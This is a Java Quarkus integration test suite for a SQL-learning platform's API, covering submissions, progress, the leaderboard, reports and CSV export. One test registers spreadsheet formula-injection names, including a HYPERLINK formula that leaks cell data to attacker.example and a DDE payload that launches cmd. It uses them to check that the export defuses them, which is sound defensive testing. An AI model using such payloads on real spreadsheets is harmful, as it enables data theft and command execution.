package academy.datadetective.progress;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.empty;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.response.Response;

import academy.datadetective.Await;
import academy.datadetective.TestSql;
import academy.datadetective.auth.Accounts;
import academy.datadetective.common.Decimals;
import academy.datadetective.seed.SeedDatabase;

/** The learning loop of ORIGINAL.md §8.3–8.4: catalogue, submissions, progress, hints and the leaderboard. */
@QuarkusTest
// Statistics and the leaderboard are about everyone: a database of their own (the seed tests' application), emptied
// of learning rows and of students before each test.
@TestProfile(SeedDatabase.Profile.class)
class LearningResourceTest {

    @Inject
    DataSource dataSource;

    @Inject
    CounterFolding folding;

    private TestSql db;

    @BeforeAll
    static void explainFailures() {
        RestAssured.enableLoggingOfRequestAndResponseIfValidationFails();
    }

    @BeforeEach
    void noLearningRowsYet() {
        db = new TestSql(dataSource);
        db.execute("TRUNCATE progress, attempts, hints");
        db.execute("UPDATE users SET role = 'teacher' WHERE role = 'student'");
    }

    @Test
    void theCatalogueHasThreeUnitsAndSevenChallengesAndHidesSolutionsFromStudents() {
        String student = token("student");
        given().auth().oauth2(student).when().get("/challenges").then().statusCode(200)
                .body("units", hasSize(3))
                .body("units.unit_title", equalTo(List.of("Unit 1: SELECT Basics", "Unit 2: JOINs", "Unit 3: Aggregations")))
                .body("units.challenges.flatten()", hasSize(7))
                .body("units[0].challenges", hasSize(3))
                .body("units.challenges.flatten().sample_solution.findAll { it != null }", empty())
                .body("units.challenges.flatten().total_attempts.sum()", equalTo(0))
                .body("units.challenges.flatten().completion_rate.findAll { it != 0 }", empty())
                .body("generated_at", notNullValue());
        given().auth().oauth2(token("teacher")).when().get("/challenges/1/1").then().statusCode(200)
                .body("sample_solution", equalTo("SELECT * FROM users"))
                .body("points", equalTo(100));
        given().auth().oauth2(student).when().get("/challenges/1").then().statusCode(200).body("challenges", hasSize(3));
        given().auth().oauth2(student).when().get("/challenges/999").then().statusCode(404).body("detail", equalTo("Unit 999 not found"));
        given().auth().oauth2(student).when().get("/challenges/1/9").then().statusCode(404).body("detail", equalTo("Challenge 1/9 not found"));
        given().when().get("/challenges").then().statusCode(401);
    }

    @Test
    void aRightAnswerEarnsTheChallengesPointsOnceAndAWrongOneIsRecordedAs400() {
        Accounts.Account alice = Accounts.register("student");
        String token = Accounts.login(alice).accessToken();

        Response wrong = submit(token, Map.of("unit_id", 1, "challenge_id", 2, "query", "SELECT name FROM users"));
        wrong.then().statusCode(400).contentType("application/problem+json")
                .body("detail", not(containsString("email")));
        Response right = submit(token, Map.of("unit_id", 1, "challenge_id", 2, "query", "select NAME,  email from users;", "hints_used", 1));
        right.then().statusCode(200)
                .body("user_id", equalTo((int) alice.id()))
                .body("points_earned", equalTo(150))
                .body("hints_used", equalTo(1))
                .body("custom_challenge_id", nullValue());
        // A retry (the front end retries POSTs) returns the first completion unchanged.
        submit(token, Map.of("unit_id", 1, "challenge_id", 2, "query", "SELECT name, email FROM users", "hints_used", 3))
                .then().statusCode(200)
                .body("id", equalTo(right.path("id")))
                .body("completed_at", equalTo(right.path("completed_at")))
                .body("hints_used", equalTo(1));
        assertEquals(List.of("f", "t", "t"), db.strings("SELECT is_correct FROM attempts WHERE user_id = " + alice.id() + " ORDER BY id"));
        assertEquals("1", db.string("SELECT count(*) FROM progress WHERE user_id = " + alice.id()));

        submit(token, Map.of("unit_id", 2, "challenge_id", 1, "query", "SELECT * FROM users INNER JOIN orders ON users.id = orders.user_id"))
                .then().statusCode(200).body("points_earned", equalTo(250));
        given().auth().oauth2(token).when().get("/progress/me").then().statusCode(200)
                .body("progress_items.challenge_title", equalTo(List.of("SELECT Specific Columns", "INNER JOIN")))
                .body("progress_items.query", equalTo(List.of("select NAME,  email from users;",
                        "SELECT * FROM users INNER JOIN orders ON users.id = orders.user_id")))
                .body("summary.total_points", equalTo(400))
                .body("summary.total_completed", equalTo(2))
                .body("summary.completion_percentage", equalTo((float) (2 * 100.0 / 7)));
    }

    @Test
    void submissionsThatCannotBeGradedAreRefusedWithTheOriginalsMessages() {
        String token = token("student");
        submit(token, Map.of("unit_id", 9, "challenge_id", 9, "query", "SELECT 1")).then().statusCode(404)
                .body("detail", equalTo("Challenge not found: unit=9, challenge=9"));
        submit(token, Map.of("unit_id", 1, "query", "SELECT 1")).then().statusCode(400)
                .body("detail", equalTo("Must provide either (unit_id + challenge_id) or custom_challenge_id"));
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "custom_challenge_id", 5, "query", "SELECT 1")).then().statusCode(400)
                .body("detail", equalTo("Cannot submit both hardcoded and custom challenge in same request"));
        submit(token, Map.of("custom_challenge_id", 424242, "query", "SELECT 1")).then().statusCode(404)
                .body("detail", equalTo("Custom challenge not found: id=424242"));
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", "")).then().statusCode(422);
        submit(token, Map.of("unit_id", 0, "challenge_id", 1, "query", "SELECT 1")).then().statusCode(422);
        submit(token("teacher"), Map.of("unit_id", 1, "challenge_id", 1, "query", "SELECT * FROM users")).then().statusCode(403)
                .body("detail", containsString("permission"));
        given().contentType("application/json").body("{}").when().post("/progress/submit").then().statusCode(401);
        assertEquals("0", db.string("SELECT count(*) FROM progress"));
    }

    @Test
    void teachersReadAStudentsProgressStudentsNever() {
        Accounts.Account student = Accounts.register("student");
        String studentToken = Accounts.login(student).accessToken();
        given().auth().oauth2(studentToken).when().get("/progress/me").then().statusCode(200)
                .body("progress_items", empty())
                .body("summary.total_points", equalTo(0))
                .body("summary.completion_percentage", equalTo(0.0f));
        given().auth().oauth2(studentToken).when().get("/progress/user/" + student.id()).then().statusCode(403);
        String teacher = token("teacher");
        given().auth().oauth2(teacher).when().get("/progress/user/" + student.id()).then().statusCode(200).body("progress_items", empty());
        given().auth().oauth2(teacher).when().get("/progress/user/987654321").then().statusCode(404)
                .body("detail", equalTo("User not found: user_id=987654321"));
    }

    @Test
    void hintsAreRecordedEachTimeForStudentsOnly() {
        String token = token("student");
        for (int i = 0; i < 2; i++) {
            given().auth().oauth2(token).contentType("application/json")
                    .body(Map.of("unit_id", 1, "challenge_id", 1, "hint_level", 1))
                    .when().post("/hints/access").then().statusCode(201)
                    .body("hint_id", notNullValue())
                    .body("accessed_at", notNullValue());
        }
        assertEquals("2", db.string("SELECT count(*) FROM hints"));
        given().auth().oauth2(token).contentType("application/json").body(Map.of("unit_id", 7, "challenge_id", 1, "hint_level", 1))
                .when().post("/hints/access").then().statusCode(404);
        for (Map<String, Object> invalid : List.of(Map.<String, Object>of("unit_id", 1, "challenge_id", 1, "hint_level", 0),
                Map.<String, Object>of("unit_id", 1, "challenge_id", 1), Map.<String, Object>of("unit_id", 1, "challenge_id", 1, "hint_level", 4))) {
            given().auth().oauth2(token).contentType("application/json").body(invalid)
                    .when().post("/hints/access").then().statusCode(422);
        }
        given().auth().oauth2(token("teacher")).contentType("application/json").body(Map.of("unit_id", 1, "challenge_id", 1, "hint_level", 1))
                .when().post("/hints/access").then().statusCode(403);
        given().contentType("application/json").body(Map.of("unit_id", 1, "challenge_id", 1, "hint_level", 1))
                .when().post("/hints/access").then().statusCode(401);
    }

    @Test
    void theLeaderboardRanksStudentsByPointsWithStableTiesAndShowsNoEmails() {
        given().when().get("/leaderboard/").then().statusCode(200).body("entries", empty());
        String first = solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }, new int[] { 1, 3 }));   // 450
        String tieEarlier = solve(List.of(new int[] { 2, 1 }));                                         // 250
        String tieLater = solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }));                      // 250
        String last = solve(List.of(new int[] { 1, 1 }));                                               // 100
        token("student");                                                                               // no progress: absent

        Response board = given().when().get("/leaderboard");
        board.then().statusCode(200)
                .body("entries.rank", equalTo(List.of(1, 2, 3, 4)))
                .body("entries.student_name", equalTo(List.of(first, tieEarlier, tieLater, last)))
                .body("entries.total_points", equalTo(List.of(450, 250, 250, 100)))
                .body("entries.challenges_completed", equalTo(List.of(3, 1, 2, 1)));
        assertFalse(board.asString().contains("email") || board.asString().contains("password"));
        given().queryParam("offset", 1).queryParam("limit", 2).when().get("/leaderboard").then().statusCode(200)
                .body("entries.rank", equalTo(List.of(2, 3)))
                .body("entries.student_name", equalTo(List.of(tieEarlier, tieLater)));
        given().queryParam("limit", 101).when().get("/leaderboard").then().statusCode(422);
    }

    @Test
    void theWeeklyReportCountsTheLastSevenDaysOfStudents() {
        String steady = solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }, new int[] { 2, 1 }));     // 500 in 3
        String starting = solve(List.of(new int[] { 1, 1 }, new int[] { 3, 1 }));                      // 300 in 2
        String lapsed = solve(List.of(new int[] { 3, 2 }));
        db.execute("UPDATE progress SET completed_at = now() - interval '8 days' WHERE user_id = (SELECT id FROM users WHERE name = '"
                + lapsed + "')");
        String teacher = token("teacher");

        given().auth().oauth2(teacher).when().get("/reports/weekly").then().statusCode(200)
                .body("students_active", equalTo(2))
                .body("total_completions", equalTo(5))
                .body("avg_points_per_student", equalTo(400.0f))
                .body("top_performers.student_name", equalTo(List.of(steady, starting)))
                .body("top_performers.points_this_week", equalTo(List.of(500, 300)))
                .body("struggling_students.student_name", equalTo(List.of(starting)))
                .body("struggling_total", equalTo(1))
                .body("generated_at", notNullValue());
        given().auth().oauth2(token("student")).when().get("/reports/weekly").then().statusCode(403);
        given().when().get("/reports/weekly").then().statusCode(401);
    }

    @Test
    void classAnalyticsDescribeTheClassAndEveryChallenge() {
        String teacher = token("teacher");
        given().auth().oauth2(teacher).when().get("/analytics/class").then().statusCode(200)
                .body("metrics.active_students", equalTo(0))
                .body("metrics.median_points", equalTo(0))
                .body("metrics.avg_success_rate", equalTo(0.0f))
                .body("challenges", hasSize(7))
                .body("weekly_trends", hasSize(4));

        solve(List.of(new int[] { 1, 1 }));
        given().auth().oauth2(teacher).when().get("/analytics/class").then().statusCode(200)
                .body("metrics.total_students", equalTo(1))
                .body("metrics.active_students", equalTo(1))
                .body("metrics.percentile_25", equalTo(100))
                .body("metrics.median_points", equalTo(100))
                .body("metrics.percentile_75", equalTo(100))
                .body("metrics.avg_success_rate", equalTo(100.0f))
                .body("metrics.avg_completion_rate", equalTo((float) Decimals.round2(100.0 / 7)))
                .body("challenges[0].challenge_title", equalTo("SELECT All Columns"))
                .body("challenges[0].success_rate", equalTo(100.0f))
                .body("difficulty_distribution.easiest[0].challenge_id", equalTo(1))
                .body("difficulty_distribution.easiest", hasSize(3))
                .body("difficulty_distribution.hardest", hasSize(3))
                .body("weekly_trends[3].completions", equalTo(1));
        given().auth().oauth2(token("student")).when().get("/analytics/class").then().statusCode(403);
    }

    @Test
    void theStudentExportIsCsvWithQuotingAndTheOriginalsColumns() {
        String busy = solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }, new int[] { 2, 1 }));       // 500, 3 of 7
        db.execute("UPDATE users SET name = 'O''Brien, \"Pat\"' WHERE name = '" + busy + "'");
        String some = solve(List.of(new int[] { 1, 1 }, new int[] { 1, 3 }));                           // 300, 2 of 7
        Accounts.Account idle = Accounts.register("student");
        db.execute("UPDATE users SET name = 'Zed' WHERE id = " + idle.id());
        String teacher = token("teacher");

        Response csv = given().auth().oauth2(teacher).when().get("/export/students");
        csv.then().statusCode(200)
                .header("Content-Type", "text/csv; charset=utf-8")
                .header("Content-Disposition", "attachment; filename=\"students_export.csv\"");
        String[] lines = csv.asString().split("\r\n", -1);
        assertEquals("name,email,total_points,completion_percentage,last_active", lines[0]);
        assertEquals(5, lines.length, csv.asString());
        assertTrue(lines[1].startsWith("\"O'Brien, \"\"Pat\"\"\",") && lines[1].contains(",500,42.86,"), lines[1]);
        assertTrue(lines[2].startsWith(some + ",") && lines[2].contains(",300,28.57,"), lines[2]);
        assertTrue(lines[3].startsWith("Zed,") && lines[3].endsWith(",0,0.0,Never"), lines[3]);
        assertEquals("", lines[4]);
        assertTrue(lines[1].matches(".*,\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}"), lines[1]);

        String old = given().auth().oauth2(teacher).queryParam("start_date", "2000-01-01").queryParam("end_date", "2000-01-31")
                .when().get("/export/students").then().statusCode(200).extract().asString();
        assertTrue(old.split("\r\n")[1].contains(",0,0.0,2"), old);
        for (String bad : List.of("2024/01/01", "01-01-2024", "2024-13-45")) {
            given().auth().oauth2(teacher).queryParam("start_date", bad).when().get("/export/students").then().statusCode(422);
        }
        given().auth().oauth2(teacher).queryParam("start_date", "2024-02-01").queryParam("end_date", "2024-01-01")
                .when().get("/export/students").then().statusCode(400)
                .body("detail", equalTo("start_date must be before or equal to end_date"));
        given().auth().oauth2(token("student")).when().get("/export/students").then().statusCode(403);
    }

    @Test
    void namesThatASpreadsheetWouldRunAsFormulasAreExportedAsText() {
        List<String> names = List.of("=HYPERLINK(\"http://attacker.example/?leak=\"&C2,\"Open\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)");
        for (String name : names) {
            given().contentType("application/json")
                    .body(Map.of("email", Accounts.uniqueEmail("formula"), "name", name, "password", Accounts.PASSWORD, "role", "student"))
                    .when().post("/auth/register").then().statusCode(201);
        }

        String csv = given().auth().oauth2(token("teacher")).when().get("/export/students").then().statusCode(200).extract().asString();

        // Each behind a single quote, and quoted where RFC 4180 wants it (quotes, commas). Registration trims names,
        // so the tab and carriage return cases are SpreadsheetCellsTest's.
        assertTrue(csv.contains("\r\n\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&C2,\"\"Open\"\")\",formula-"), csv);
        assertTrue(csv.contains("\r\n'+1+cmd|' /C calc'!A0,formula-"), csv);
        assertTrue(csv.contains("\r\n'-2+3,formula-"), csv);
        assertTrue(csv.contains("\r\n'@SUM(1+1),formula-"), csv);
    }

    @Test
    void theLeaderboardTotalsFollowEveryChangeToProgress() {
        solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }, new int[] { 2, 1 }));
        solve(List.of(new int[] { 1, 1 }, new int[] { 1, 2 }));
        Accounts.Account third = Accounts.register("student");
        String token = Accounts.login(third).accessToken();
        submit(token, Map.of("unit_id", 3, "challenge_id", 2, "query", "SELECT role, COUNT(*) FROM users GROUP BY role")).then().statusCode(200);
        assertEquals("0", mismatchedTotals());

        db.execute("UPDATE progress SET points_earned = points_earned + 7 WHERE unit_id = 1 AND challenge_id = 1");
        assertEquals("0", mismatchedTotals());
        db.execute("DELETE FROM progress WHERE unit_id = 1 AND challenge_id = 2");
        assertEquals("0", mismatchedTotals());
        db.execute("UPDATE progress SET user_id = " + third.id() + " WHERE unit_id = 2 AND challenge_id = 1");
        assertEquals("0", mismatchedTotals());
        db.execute("DELETE FROM users WHERE id = " + third.id());
        assertEquals("0", mismatchedTotals());
        db.execute("TRUNCATE progress");
        assertEquals("0", db.string("SELECT count(*) FROM user_points"));
    }

    @Test
    void theDerivedStatisticsFollowSubmitsDeletionsDeactivationAndARestoreLikeReload() {
        Accounts.Account student = Accounts.register("student");
        String token = Accounts.login(student).accessToken();
        for (int i = 0; i < 2; i++) {
            submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", "SELECT 1")).then().statusCode(400);
        }
        solve(List.of(new int[] { 1, 1 }, new int[] { 2, 1 }));
        given().auth().oauth2(token).contentType("application/json").body(Map.of("unit_id", 1, "challenge_id", 1, "hint_level", 1))
                .when().post("/hints/access").then().statusCode(201);
        String solution = db.string("SELECT sample_solution FROM challenges WHERE unit_id = 1 AND challenge_id = 1");
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", solution)).then().statusCode(200);
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", solution)).then().statusCode(200);
        assertEquals(List.of("0"), mismatchedStatistics());
        given().auth().oauth2(token).when().get("/challenges/1/1").then().statusCode(200)
                .body("total_attempts", equalTo(5)).body("success_count", equalTo(3));

        // several attempts of one user in one statement, a teacher's custom challenge, then its dataset deleted
        Accounts.Account teacher = Accounts.register("teacher");
        db.execute("INSERT INTO attempts (user_id, unit_id, challenge_id, query, is_correct) SELECT " + student.id()
                + ", 3, 1, 'q', n % 2 = 0 FROM generate_series(1, 3) n");
        db.execute("INSERT INTO datasets (teacher_id, name, original_filename, schema_json) VALUES (" + teacher.id() + ", 'd', 'd.csv', '{}')");
        db.execute("INSERT INTO custom_challenges (teacher_id, dataset_id, title, description, expected_query, hints) SELECT "
                + teacher.id() + ", max(id), 't', 'd', 'q', '[\"a\", \"b\", \"c\"]' FROM datasets WHERE teacher_id = " + teacher.id());
        db.execute("INSERT INTO attempts (user_id, custom_challenge_id, query, is_correct) SELECT " + student.id()
                + ", max(id), 'q', true FROM custom_challenges WHERE teacher_id = " + teacher.id());
        db.execute("INSERT INTO progress (user_id, custom_challenge_id, points_earned, query) SELECT " + student.id()
                + ", max(id), 100, 'q' FROM custom_challenges WHERE teacher_id = " + teacher.id());
        assertEquals(List.of("0"), mismatchedStatistics());
        assertTrue(folding.fold().isPresent());
        assertEquals(List.of("0"), mismatchedStatistics());
        db.execute("DELETE FROM datasets WHERE teacher_id = " + teacher.id());
        assertEquals(List.of("0"), mismatchedStatistics());

        db.execute("UPDATE users SET deactivated_at = now() WHERE id = " + student.id());
        db.execute("UPDATE users SET last_login = now()");
        db.execute("UPDATE progress SET completed_at = completed_at - interval '8 days' WHERE user_id = " + student.id());
        db.execute("UPDATE attempts SET is_correct = NOT is_correct WHERE user_id = " + student.id());
        assertEquals(List.of("0"), mismatchedStatistics());
        db.execute("DELETE FROM users WHERE id = " + student.id());
        assertEquals(List.of("0"), mismatchedStatistics());
        folding.fold();
        assertEquals(List.of("0"), mismatchedStatistics());

        // as a restore does: every table emptied in one TRUNCATE, then the sources loaded again
        db.execute("""
                CREATE TABLE saved_users AS SELECT * FROM users;
                CREATE TABLE saved_progress AS SELECT * FROM progress;
                CREATE TABLE saved_attempts AS SELECT * FROM attempts;
                CREATE TABLE saved_hints AS SELECT * FROM hints;
                CREATE TABLE saved_tokens AS SELECT * FROM refresh_tokens;
                TRUNCATE users, refresh_tokens, password_reset_tokens, datasets, custom_challenges, progress, attempts, hints,
                         user_points, challenge_stat_slots, challenge_attempters, custom_challenge_stat_slots, week_stat_slots,
                         user_weeks, user_counts, users_by_points, points_distribution_slots;
                INSERT INTO users SELECT * FROM saved_users;
                INSERT INTO refresh_tokens SELECT * FROM saved_tokens;
                INSERT INTO progress SELECT * FROM saved_progress;
                INSERT INTO attempts SELECT * FROM saved_attempts;
                INSERT INTO hints SELECT * FROM saved_hints;
                DROP TABLE saved_users, saved_progress, saved_attempts, saved_hints, saved_tokens""");
        assertEquals(List.of("0"), mismatchedStatistics());
        assertTrue(Long.parseLong(db.string("SELECT count(*) FROM challenge_attempters")) > 0);
    }

    @Test
    void theDetailedUserViewShowsMetricsCompletedChallengesAndRecentActivity() {
        Accounts.Account student = Accounts.register("student");
        String token = Accounts.login(student).accessToken();
        given().auth().oauth2(token).contentType("application/json").body(Map.of("unit_id", 1, "challenge_id", 1, "hint_level", 1))
                .when().post("/hints/access").then().statusCode(201);
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", "SELECT id FROM users")).then().statusCode(400);
        submit(token, Map.of("unit_id", 1, "challenge_id", 1, "query", "SELECT * FROM users")).then().statusCode(200);
        submit(token, Map.of("unit_id", 1, "challenge_id", 2, "query", "SELECT name, email FROM users")).then().statusCode(200);

        given().auth().oauth2(token).queryParam("detailed", true).when().get("/users/" + student.id()).then().statusCode(200)
                .body("user.email", equalTo(student.email()))
                .body("metrics.total_points", equalTo(250))
                .body("metrics.total_challenges_completed", equalTo(2))
                .body("metrics.total_attempts", equalTo(3))
                .body("metrics.average_attempts_per_challenge", equalTo(1.5f))
                .body("metrics.overall_success_rate", equalTo(66.67f))
                .body("metrics.total_hints_used", equalTo(1))
                .body("units.unit_id", equalTo(List.of(1, 2, 3)))
                .body("units[0].challenges.challenge_id", equalTo(List.of(1, 2)))
                .body("units[1].challenges", empty())
                .body("units[0].challenges[0].attempts.is_correct", equalTo(List.of(false, true)))
                .body("units[0].challenges[0].metrics.success_rate", equalTo(50.0f))
                .body("units[0].challenges[0].hints.hint_level", equalTo(List.of(1)))
                .body("activity_log", hasSize(4))
                .body("activity_log[0].details", equalTo("Submitted challenge (correct)"))
                .body("activity_log[3].details", equalTo("Accessed level 1 hint"))
                .body("activity_log[3].challenge_title", equalTo("SELECT All Columns"));
        given().auth().oauth2(token("teacher")).queryParam("detailed", true).when().get("/users/" + student.id()).then().statusCode(200);
        given().auth().oauth2(token("student")).queryParam("detailed", true).when().get("/users/" + student.id()).then().statusCode(403);
        given().auth().oauth2(token).when().get("/users/" + student.id()).then().statusCode(200).body("metrics", nullValue());
    }

    /** Users whose derived totals differ from their progress rows. */
    private String mismatchedTotals() {
        return db.string("""
                SELECT count(*) FROM (SELECT user_id, sum(points_earned) AS points, count(*) AS completed FROM progress GROUP BY user_id) p
                FULL JOIN user_points t ON t.user_id = p.user_id
                WHERE p.user_id IS NULL OR t.user_id IS NULL OR p.points <> t.total_points OR p.completed <> t.challenges_completed""");
    }

    /** How many rows of the derived tables (V7) differ from the aggregates they stand for: one number in all. */
    private List<String> mismatchedStatistics() {
        return db.strings("""
                WITH expected_challenges AS (
                    SELECT unit_id, challenge_id, sum(attempts) AS attempts, sum(correct) AS correct, sum(attempters) AS attempters,
                           sum(completions) AS completions, sum(hints) AS hints
                    FROM (SELECT unit_id, challenge_id, count(*) AS attempts, count(*) FILTER (WHERE is_correct) AS correct,
                                 count(DISTINCT user_id) AS attempters, 0 AS completions, 0 AS hints
                          FROM attempts WHERE unit_id IS NOT NULL GROUP BY 1, 2
                          UNION ALL SELECT unit_id, challenge_id, 0, 0, 0, count(*), 0 FROM progress WHERE unit_id IS NOT NULL GROUP BY 1, 2
                          UNION ALL SELECT unit_id, challenge_id, 0, 0, 0, 0, count(*) FROM hints WHERE unit_id IS NOT NULL GROUP BY 1, 2) s
                    GROUP BY 1, 2),
                expected_custom AS (
                    SELECT custom_challenge_id, sum(attempts) AS attempts, sum(correct) AS correct, sum(completions) AS completions
                    FROM (SELECT custom_challenge_id, count(*) AS attempts, count(*) FILTER (WHERE is_correct) AS correct, 0 AS completions
                          FROM attempts WHERE custom_challenge_id IS NOT NULL GROUP BY 1
                          UNION ALL SELECT custom_challenge_id, 0, 0, count(*) FROM progress WHERE custom_challenge_id IS NOT NULL GROUP BY 1) s
                    GROUP BY 1),
                expected_weeks AS (
                    SELECT CAST(date_trunc('week', completed_at AT TIME ZONE 'UTC') AS date) AS week, count(*) AS completions,
                           sum(points_earned) AS points, count(DISTINCT user_id) AS active_users
                    FROM progress GROUP BY 1),
                expected_counts AS (SELECT role, deactivated_at IS NOT NULL AS deactivated, count(*) AS users FROM users GROUP BY 1, 2),
                expected_by_points AS (
                    SELECT u.id, u.role, u.name, u.deactivated_at IS NOT NULL AS deactivated, coalesce(p.total_points, 0) AS total_points
                    FROM users u LEFT JOIN user_points p ON p.user_id = u.id),
                expected_distribution AS (SELECT total_points, count(*) AS users FROM user_points GROUP BY 1),
                differences AS (
                    SELECT 1 FROM expected_challenges e FULL JOIN challenge_stats s USING (unit_id, challenge_id)
                    WHERE (e.attempts, e.correct, e.attempters, e.completions, e.hints)
                          IS DISTINCT FROM (s.attempts, s.correct_attempts, s.attempters, s.completions, s.hints)
                    UNION ALL
                    SELECT 1 FROM (SELECT DISTINCT unit_id, challenge_id, user_id FROM attempts WHERE unit_id IS NOT NULL) e
                    FULL JOIN challenge_attempters a USING (unit_id, challenge_id, user_id) WHERE e.user_id IS NULL OR a.user_id IS NULL
                    UNION ALL
                    SELECT 1 FROM expected_custom e FULL JOIN custom_challenge_stats s USING (custom_challenge_id)
                    WHERE (e.attempts, e.correct, e.completions) IS DISTINCT FROM (s.attempts, s.correct_attempts, s.completions)
                    UNION ALL
                    SELECT 1 FROM expected_weeks e FULL JOIN week_stats s USING (week)
                    WHERE (e.completions, e.points, e.active_users) IS DISTINCT FROM (s.completions, s.points, s.active_users)
                    UNION ALL
                    SELECT 1 FROM (SELECT CAST(date_trunc('week', completed_at AT TIME ZONE 'UTC') AS date) AS week, user_id,
                                          count(*) AS completions FROM progress GROUP BY 1, 2) e
                    FULL JOIN user_weeks w USING (week, user_id) WHERE e.completions IS DISTINCT FROM w.completions
                    UNION ALL
                    SELECT 1 FROM expected_counts e FULL JOIN user_counts c USING (role, deactivated) WHERE e.users IS DISTINCT FROM c.users
                    UNION ALL
                    SELECT 1 FROM expected_by_points e FULL JOIN users_by_points b ON b.user_id = e.id
                    WHERE (e.role, e.name, e.deactivated, e.total_points) IS DISTINCT FROM (b.role, b.name, b.deactivated, b.total_points)
                    UNION ALL
                    SELECT 1 FROM expected_distribution e FULL JOIN points_distribution d USING (total_points) WHERE e.users IS DISTINCT FROM d.users)
                SELECT count(*) FROM differences""");
    }

    /**
     * Many students submitting to one challenge at once, each twice (a completion, then a resubmission): the
     * counts stay exact, the submissions counted in rows of their own sessions rather than queueing on one row
     * per challenge, and a fold while they run changes no sum.
     */
    @Test
    void concurrentSubmissionsToOneChallengeCountExactlyWithoutSharingACounterRow() throws Exception {
        String solution = db.string("SELECT sample_solution FROM challenges WHERE unit_id = 3 AND challenge_id = 2");
        List<String> tokens = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            tokens.add(Accounts.login(Accounts.register("student")).accessToken());
        }
        folding.fold();
        ExecutorService pool = Executors.newFixedThreadPool(6);
        try {
            List<Future<Integer>> statuses = new ArrayList<>();
            for (String token : tokens) {
                for (int round = 0; round < 2; round++) {
                    statuses.add(pool.submit(() -> submit(token, Map.of("unit_id", 3, "challenge_id", 2, "query", solution)).statusCode()));
                }
            }
            statuses.add(pool.submit(() -> folding.fold().isPresent() ? 200 : 0));
            for (Future<Integer> status : statuses) {
                assertEquals(200, status.get(60, TimeUnit.SECONDS));
            }
        } finally {
            pool.shutdownNow();
        }
        assertEquals(List.of("0"), mismatchedStatistics());
        assertTrue(Long.parseLong(db.string("SELECT count(DISTINCT slot) FROM challenge_stat_slots WHERE unit_id = 3 AND challenge_id = 2")) > 1,
                "the submissions were counted in one row");
        folding.fold();
        assertEquals("1", db.string("SELECT count(*) FROM challenge_stat_slots WHERE unit_id = 3 AND challenge_id = 2"));
        assertEquals(List.of("0"), mismatchedStatistics());
    }

    /**
     * A retry racing the first submit of the same answer: the completion the other request commits while this one's
     * statement waits on it is found, and returned as the only one (one statement writes and reads, so its own read
     * cannot see that row: the service reads it with a second).
     */
    @Test
    void submitsWaitingOnARacingCompletionReturnThatCompletion() throws Exception {
        String solution = db.string("SELECT sample_solution FROM challenges WHERE unit_id = 2 AND challenge_id = 1");
        Accounts.Account student = Accounts.register("student");
        String token = Accounts.login(student).accessToken();
        ExecutorService pool = Executors.newFixedThreadPool(3);
        try (Connection racing = dataSource.getConnection()) {
            racing.setAutoCommit(false);
            String racingId;
            try (Statement statement = racing.createStatement();
                    ResultSet row = statement.executeQuery("INSERT INTO progress (user_id, unit_id, challenge_id, points_earned, hints_used, query)"
                            + " VALUES (" + student.id() + ", 2, 1, 10, 0, 'racing') RETURNING id")) {
                row.next();
                racingId = row.getString(1);
            }
            List<Future<Response>> answers = new ArrayList<>();
            for (int i = 0; i < 3; i++) {
                answers.add(pool.submit(() -> submit(token, Map.of("unit_id", 2, "challenge_id", 1, "query", solution))));
            }
            Await.until(() -> db.count("pg_stat_activity WHERE wait_event_type = 'Lock' AND query LIKE 'WITH input%'") == 3);
            racing.commit();
            for (Future<Response> answer : answers) {
                Response response = answer.get(30, TimeUnit.SECONDS);
                assertEquals(200, response.statusCode());
                assertEquals(racingId, response.jsonPath().getString("id"));
            }
        } finally {
            pool.shutdownNow();
        }
        assertEquals("1", db.string("SELECT count(*) FROM progress WHERE user_id = " + student.id()));
        assertEquals("3", db.string("SELECT count(*) FROM attempts WHERE user_id = " + student.id()));
    }

    /** A new student who solves the given built-in challenges; returns their name. */
    private String solve(List<int[]> challenges) {
        Accounts.Account student = Accounts.register("student");
        db.execute("UPDATE users SET name = 'Student " + student.id() + "' WHERE id = " + student.id());
        String token = Accounts.login(student).accessToken();
        for (int[] challenge : challenges) {
            String solution = db.string("SELECT sample_solution FROM challenges WHERE unit_id = " + challenge[0]
                    + " AND challenge_id = " + challenge[1]);
            submit(token, Map.of("unit_id", challenge[0], "challenge_id", challenge[1], "query", solution)).then().statusCode(200);
        }
        return db.string("SELECT name FROM users WHERE id = " + student.id());
    }

    private String token(String role) {
        return Accounts.login(Accounts.register(role)).accessToken();
    }

    private static Response submit(String token, Map<String, Object> body) {
        return given().auth().oauth2(token).contentType("application/json").body(new HashMap<>(body)).when().post("/progress/submit");
    }
}
